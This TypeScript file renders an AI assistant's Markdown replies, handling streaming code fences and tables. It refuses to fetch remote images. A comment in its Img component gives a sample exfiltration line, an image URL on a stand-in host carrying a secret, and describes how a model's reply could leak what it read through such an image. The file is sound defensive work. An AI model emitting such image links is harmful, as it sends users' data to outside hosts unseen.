import { createContext, memo, useContext, useMemo, type JSX } from 'react';
import { ImageOff } from 'lucide-react';
import ReactMarkdown, { type Components, type ExtraProps } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import remend from 'remend';
import { fenceClosedAt } from '../artifacts/artifact.ts';
import { MessageLink } from '../code/code-link-anchor.tsx';
import { CodeBlock } from './code-block.tsx';
import { splitBlocks } from './split-blocks.ts';

type HastNode = NonNullable<ExtraProps['node']>['children'][number];

function textOf(node: HastNode): string {
  if (node.type === 'text') return node.value;
  if (node.type === 'element') return node.children.map(textOf).join('');
  return '';
}

/** The Markdown of the block being rendered, while it is still growing (else null). */
const GrowingSource = createContext<string | null>(null);

function Pre({ node }: ExtraProps) {
  const growing = useContext(GrowingSource);
  const code = node?.children[0];
  if (code?.type !== 'element' || code.tagName !== 'code') return <pre>{node && textOf(node)}</pre>;
  const classes = code.properties.className;
  const langClass = Array.isArray(classes)
    ? classes.find((c) => typeof c === 'string' && c.startsWith('language-'))
    : undefined;
  const lang = typeof langClass === 'string' ? langClass.slice('language-'.length) : '';
  // A fence still open in a streaming reply runs to the end of the text: not complete yet.
  const end = node?.position?.end.offset;
  const complete = growing === null || end === undefined || fenceClosedAt(growing, end);
  // The parser keeps the newline before the closing fence; drop it so the box has no blank line.
  return <CodeBlock code={textOf(code).replace(/\n$/, '')} lang={lang} complete={complete} />;
}

/** Images that load without asking: inline data and this origin's own. */
function isLocalImage(src: string): boolean {
  if (src.startsWith('data:image/')) return true;
  try {
    return new URL(src, location.href).origin === location.origin;
  } catch {
    return false;
  }
}

/**
 * A remote image in a reply is shown as a link, never fetched: its address may carry what the
 * model read (`![](https://x.example/?k=SECRET)`), and loading it would send it off with no click.
 */
function Img({ node: _node, src, alt, ...props }: JSX.IntrinsicElements['img'] & ExtraProps) {
  if (typeof src === 'string' && isLocalImage(src)) return <img src={src} alt={alt} {...props} />;
  if (typeof src !== 'string' || !src) return alt ? <span>{alt}</span> : null;
  let host = src;
  try {
    host = new URL(src).host;
  } catch {
    // Not a URL: show it as written.
  }
  return (
    <a
      href={src}
      target="_blank"
      rel="noopener noreferrer"
      title={`Image not loaded (it is on ${host}): ${src}`}
      className="remote-image"
    >
      <ImageOff aria-hidden="true" className="inline size-3.5 align-[-2px]" />{' '}
      {alt ? `${alt} (image on ${host})` : `Image on ${host}`}
    </a>
  );
}

const components: Components = {
  pre: Pre,
  img: Img,
  // A code graph link opens a code pane at its line; any other link opens a new tab.
  a: ({ node: _node, ...props }) => <MessageLink {...props} />,
  table({ node: _node, ...props }) {
    return (
      <div className="table-wrap">
        <table {...props} />
      </div>
    );
  },
};

const remarkPlugins = [remarkGfm];

const Block = memo(function Block({ text, growing }: { text: string; growing: boolean }) {
  return (
    <GrowingSource value={growing ? text : null}>
      <ReactMarkdown remarkPlugins={remarkPlugins} components={components}>
        {text}
      </ReactMarkdown>
    </GrowingSource>
  );
});

/**
 * What closes the marks a cut-off text left open (`**bold`, `` `code``, `~~`, a link's
 * text), so they do not show raw. Open code fences are the renderer's (see Pre); an image or
 * link whose address is cut shows as nothing or its text.
 */
const healOptions = { linkMode: 'text-only', images: false, katex: false } as const;

/**
 * Assistant text as GitHub-flavoured Markdown. `streaming`: the text is still being written, so
 * its last code fence may be open. `cut` (default: `streaming`): the text may stop in the
 * middle of a mark, which is then closed.
 */
export const Markdown = memo(function Markdown({
  text,
  streaming = false,
  cut = streaming,
}: {
  text: string;
  streaming?: boolean;
  cut?: boolean;
}) {
  const blocks = useMemo(() => {
    const all = splitBlocks(text);
    if (cut && all.length > 0) all[all.length - 1] = remend(all.at(-1)!, healOptions);
    return all;
  }, [text, cut]);
  return (
    <div className="markdown">
      {blocks.map((block, i) => (
        <Block key={i} text={block} growing={streaming && i === blocks.length - 1} />
      ))}
    </div>
  );
});
